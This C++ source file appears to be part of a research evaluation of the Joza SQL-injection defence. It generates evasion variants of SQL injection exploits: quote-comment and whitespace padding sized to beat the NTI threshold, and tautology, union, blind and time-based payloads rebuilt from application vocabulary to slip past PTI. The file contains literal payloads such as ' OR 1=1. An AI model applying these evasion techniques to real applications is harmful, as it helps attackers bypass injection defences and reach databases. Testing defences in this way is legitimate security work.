#include "attack/evasion.h"

#include <algorithm>
#include <cmath>

#include "attack/vocab_kits.h"
#include "sqlparse/lexer.h"
#include "util/codec.h"
#include "util/strings.h"

namespace joza::attack {

namespace {

using webapp::Transform;

bool ChainContains(const webapp::TransformChain& chain, Transform t) {
  return std::find(chain.begin(), chain.end(), t) != chain.end();
}

// Probes how the plugin transforms a *logical* payload (post transport
// decoding), the way an adaptive attacker would.
std::string LogicalApply(const PluginSpec& plugin,
                         const std::string& payload) {
  if (ChainContains(plugin.transforms, Transform::kBase64Decode)) {
    return webapp::ApplyChain(plugin.transforms, Base64Encode(payload));
  }
  return webapp::ApplyChain(plugin.transforms, payload);
}

// Number of quotes needed in the comment block: ratio = k / (base + 2k)
// must exceed the threshold, i.e. k > t*base / (1 - 2t); doubled margin.
std::size_t QuotesNeeded(double threshold, std::size_t base_length) {
  if (threshold >= 0.5) return 2 * base_length + 16;  // degenerate config
  double k = threshold * static_cast<double>(base_length) /
             (1.0 - 2.0 * threshold);
  return static_cast<std::size_t>(std::ceil(k)) * 2 + 8;
}

// Trailing spaces needed: ratio = n / len must exceed the threshold.
std::size_t SpacesNeeded(double threshold, std::size_t payload_length) {
  double n = threshold * static_cast<double>(payload_length);
  return static_cast<std::size_t>(std::ceil(n)) * 2 + 8;
}

std::string WithQuoteComment(const std::string& payload, std::size_t quotes) {
  std::string out = payload + "/*";
  out.append(quotes, '\'');
  out += "*/";
  return out;
}

}  // namespace

NtiMutation MutateForNtiEvasion(const PluginSpec& plugin,
                                const Exploit& original,
                                const nti::NtiConfig& nti_config) {
  NtiMutation m;

  // Transport encodings hide the payload from NTI outright: the stored
  // input is the encoded form, the query sees the decoded form.
  if (ChainContains(plugin.transforms, Transform::kBase64Decode)) {
    m.possible = true;
    m.exploit = original;
    m.technique = "transport-encoding";
    return m;
  }

  // Magic quotes active at query-construction time? (A stripslashes later
  // in the chain undoes it.)
  const bool quote_escape = LogicalApply(plugin, "x'y") == "x\\'y";
  if (quote_escape) {
    m.possible = true;
    m.technique = "quote-comment";
    const std::size_t base = original.payload.size() + 4;
    const std::size_t k = QuotesNeeded(nti_config.threshold, base);
    m.exploit = original;
    m.exploit.payload = WithQuoteComment(original.payload, k);
    if (original.is_probe_pair) {
      m.exploit.false_payload = WithQuoteComment(original.false_payload, k);
    }
    return m;
  }

  // Whitespace trimming?
  const bool trims = LogicalApply(plugin, "xy   ") == "xy";
  if (trims) {
    m.possible = true;
    m.technique = "whitespace-padding";
    const std::size_t n =
        SpacesNeeded(nti_config.threshold, original.payload.size());
    m.exploit = original;
    m.exploit.payload = original.payload + std::string(n, ' ');
    if (original.is_probe_pair) {
      m.exploit.false_payload = original.false_payload + std::string(n, ' ');
    }
    return m;
  }

  // No transformation to hide behind: any padding survives into the query
  // verbatim, keeping the edit distance at zero.
  return m;
}

std::string RecaseSqlTokens(const std::string& payload) {
  std::string out = payload;
  for (const sql::Token& t : sql::Lex(payload)) {
    if (t.kind == sql::TokenKind::kKeyword ||
        t.kind == sql::TokenKind::kFunction) {
      for (std::size_t i = t.span.begin; i < t.span.end; ++i) {
        out[i] = AsciiToUpper(out[i]);
      }
    }
  }
  return out;
}

std::vector<TaintlessCandidate> TaintlessCandidates(const PluginSpec& plugin,
                                                    const Exploit& original) {
  std::vector<TaintlessCandidate> out;

  // 1. Case-match the original's SQL tokens against the (conventionally
  //    uppercase) application vocabulary.
  {
    Exploit e = original;
    e.payload = RecaseSqlTokens(original.payload);
    if (original.is_probe_pair) {
      e.false_payload = RecaseSqlTokens(original.false_payload);
    }
    out.push_back({std::move(e), "case-match"});
  }

  // 2. Type-specific reconstruction from vocabulary snippets.
  switch (plugin.type) {
    case AttackType::kTautology: {
      Exploit e;
      e.payload = plugin.quoted ? "x' OR 1=1 -- a" : "0 OR 1=1";
      out.push_back({std::move(e), "vocabulary-tautology"});
      Exploit e2;
      e2.payload = plugin.quoted ? "x' OR 2>1 -- a" : "0 OR 2>1";
      out.push_back({std::move(e2), "vocabulary-tautology-gt"});
      break;
    }
    case AttackType::kUnionBased: {
      Exploit e;
      std::string head = plugin.quoted ? "zzz' " : "0 ";
      std::string tail = plugin.quoted ? " -- a" : "";
      e.payload = head + std::string(kKitUnion2) + tail;
      out.push_back({std::move(e), "vocabulary-union-kit"});
      break;
    }
    case AttackType::kStandardBlind: {
      Exploit e;
      std::string head = plugin.quoted ? "zzz' " : "0 ";
      std::string tail = plugin.quoted ? " -- a" : "";
      e.payload = head + std::string(kKitBlindHead) + "114" +
                  std::string(kKitBlindTail) + tail;
      e.false_payload = head + std::string(kKitBlindHead) + "126" +
                        std::string(kKitBlindTail) + tail;
      e.is_probe_pair = true;
      out.push_back({std::move(e), "vocabulary-blind-kit"});
      break;
    }
    case AttackType::kDoubleBlind: {
      Exploit e;
      std::string head = plugin.quoted ? "zzz' " : "0 ";
      std::string tail = plugin.quoted ? " -- a" : "";
      e.payload = head + std::string(kKitTimeHead) + "114" +
                  std::string(kKitTimeTail) + tail;
      e.false_payload = head + std::string(kKitTimeHead) + "126" +
                        std::string(kKitTimeTail) + tail;
      e.is_probe_pair = true;
      out.push_back({std::move(e), "vocabulary-time-kit"});
      break;
    }
  }
  return out;
}

namespace {

bool PtiSafe(const PluginSpec& plugin, const pti::PtiAnalyzer& pti,
             const Exploit& e) {
  if (pti.Analyze(QueryFor(plugin, e.payload)).attack_detected) return false;
  if (e.is_probe_pair &&
      pti.Analyze(QueryFor(plugin, e.false_payload)).attack_detected) {
    return false;
  }
  return true;
}

}  // namespace

TaintlessResult RunTaintless(const PluginSpec& plugin,
                             const pti::PtiAnalyzer& pti,
                             webapp::Application& unprotected_app) {
  TaintlessResult result;
  const Exploit original = OriginalExploit(plugin);
  for (TaintlessCandidate& candidate : TaintlessCandidates(plugin, original)) {
    ++result.candidates_tried;
    if (!PtiSafe(plugin, pti, candidate.exploit)) continue;
    if (!ExploitSucceeds(unprotected_app, plugin, candidate.exploit)) continue;
    result.success = true;
    result.exploit = std::move(candidate.exploit);
    result.strategy = std::move(candidate.strategy);
    return result;
  }
  return result;
}

}  // namespace joza::attack
